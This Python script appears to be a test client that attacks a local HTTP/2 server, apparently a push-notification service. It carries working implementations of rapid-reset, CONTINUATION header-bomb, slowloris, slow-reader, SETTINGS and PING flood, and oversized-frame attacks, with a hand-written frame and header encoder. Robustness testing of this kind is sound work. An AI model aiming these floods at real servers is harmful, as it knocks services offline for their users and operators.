"""A client that breaks the rules of HTTP/2 in one way. Ends with 0 when it has done so, whatever the server did about it.

Usage: hostile.py ATTACK PORT BEARER TOKEN [forever]
"""
import random
import socket
import struct
import sys
import time

attack, port, bearer, token = sys.argv[1:5]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect():
    return socket.create_connection(("127.0.0.1", int(port)), timeout=10)


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def literal(name, value):
    """A header that is not kept in the table."""

    def text(part):
        part = part.encode()
        if len(part) < 127:
            return bytes([len(part)]) + part
        rest, count = len(part) - 127, b""
        while rest >= 128:
            count += bytes([rest % 128 + 128])
            rest //= 128
        return b"\x7f" + count + bytes([rest]) + part

    return b"\x00" + text(name) + text(value)


def request(**more):
    headers = {":method": "POST", ":scheme": "http", ":path": "/3/device/" + token, ":authority": "localhost", "authorization": "bearer " + bearer}
    headers.update(more)
    return b"".join(literal(name, value) for name, value in headers.items())


def send(data):
    """Sends until the server has had enough."""
    with connect() as peer:
        try:
            peer.sendall(data)
            peer.shutdown(socket.SHUT_WR)
            while peer.recv(65536):
                pass
        except OSError:
            pass


def slow_reader():
    with connect() as peer:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        peer.settimeout(3)
        data = PREFACE + frame(4, 0, 0)
        for stream in range(1, 4000, 2):
            data += frame(1, 5, stream, request())
        try:
            peer.sendall(data)
        except OSError:
            pass


def slow_loris():
    """Many connections that begin a request and never end it."""
    peers = [connect() for _ in range(200)]
    part = PREFACE + frame(4, 0, 0) + frame(1, 4, 1, request())[:60]
    for step in range(0, len(part), 6):
        for peer in peers:
            try:
                peer.sendall(part[step:step + 6])
            except OSError:
                pass
        time.sleep(0.1)


random.seed(7)
opening = PREFACE + frame(4, 0, 0)
attacks = {
    "random": lambda: [send(random.randbytes(random.randrange(1, 20000))) for _ in range(100)],
    "preface": lambda: [send(PREFACE + random.randbytes(random.randrange(1, 5000))) for _ in range(200)],
    "reset": lambda: send(opening + b"".join(frame(1, 4, s, request()) + frame(3, 0, s, b"\0\0\0\x08") for s in range(1, 20001, 2))),
    "header-bomb": lambda: send(opening + frame(1, 4, 1, request(x="y" * 12000)) + b"".join(frame(9, 0, 1, b"\0\x01a" + b"\x7f\x81\x5d" + b"z" * 12000) for _ in range(2000))),
    "oversized-frame": lambda: send(opening + b"\xff\xff\xff\x00\x00" + b"\0\0\0\x01" + b"x" * 200000),
    "slow-reader": slow_reader,
    "slow-loris": slow_loris,
    "million-bytes": lambda: send(random.randbytes(1_000_000)),
    "settings-flood": lambda: send(opening + frame(4, 0, 0) * 100000),
    "ping-flood": lambda: send(opening + frame(6, 0, 0, b"12345678") * 100000),
    "endless-body": lambda: send(opening + frame(1, 4, 1, request()) + frame(0, 0, 1, b"x" * 16000) * 500),
}
attacks[attack]()
while sys.argv[5:]:
    try:
        attacks[attack]()
    except OSError:
        time.sleep(0.01)
